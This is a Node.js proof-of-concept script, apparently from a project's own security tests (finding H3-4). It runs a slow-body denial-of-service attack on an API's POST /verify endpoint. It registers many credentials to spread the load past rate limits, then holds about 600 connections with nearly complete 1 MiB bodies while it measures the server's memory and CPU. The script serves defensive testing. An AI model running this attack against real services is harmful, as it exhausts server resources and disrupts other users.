// PoC (H3-4): POST bodies held whole while they trickle in. Every request of the API reads its JSON body whole
// before answering (1 MiB allowed); the rate limit counts the request at its head, and Node's requestTimeout
// (30 s) bounds each one, but not how many are open at once: only the API's share of the connection budget does.
// A holder of agent credentials (registration is open on loopback; each credential is a bucket of 60 a minute)
// opens N POST /verify with Content-Length 1 MiB, sends all but the last byte, and waits.
// usage: node test/attack-scripts/slow-bodies.mjs <port> <pid> [connections=600]
import net from 'node:net'
import fs from 'node:fs'
const [port, pid, n = '600'] = process.argv.slice(2)
const base = `http://127.0.0.1:${port}`
const st = () => fs.readFileSync(`/proc/${pid}/status`, 'utf8')
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(st())[1]) / 1024
const hwm = () => Number(/VmHWM:\s+(\d+)/.exec(st())[1]) / 1024
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
const creds = []
for (let i = 0; i < Math.ceil(Number(n) / 55); i++) {
  const r = await fetch(base + '/agents/register', {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: `sb${i}` }),
  })
  if (r.status === 201) creds.push((await r.json()).identity.credential)
}
console.log('credentials', creds.length)
const LEN = 1024 * 1024
const body = Buffer.alloc(LEN - 1, 0x20) // whitespace: valid JSON prefix
body[0] = 0x7b // '{'
console.log(`before: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)}), cpu ${cpu().toFixed(1)} s`)
const c0 = cpu()
const socks = []
const answers = {}
for (let i = 0; i < Number(n); i++) {
  const s = net.connect(Number(port), '127.0.0.1')
  s.on('error', () => undefined)
  s.on('data', (d) => {
    const l = d.toString().split('\r\n')[0]
    answers[l] = (answers[l] ?? 0) + 1
  })
  s.write(
    `POST /verify HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nContent-Length: ${LEN}\r\n` +
      `Authorization: Bearer ${creds[Math.floor(i / 55)]}\r\n\r\n`,
  )
  s.write(body)
  socks.push(s)
  if (i % 100 === 99) await new Promise((r) => setTimeout(r, 200))
}
for (let t = 5; t <= 25; t += 5) {
  await new Promise((r) => setTimeout(r, 5000))
  console.log(
    `${t} s: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)}), cpu +${(cpu() - c0).toFixed(1)} s, answers so far`,
    answers,
  )
}
for (const s of socks) s.destroy()
await new Promise((r) => setTimeout(r, 2000))
console.log(`after: node RSS ${rss().toFixed(0)} MB (peak ${hwm().toFixed(0)})`)
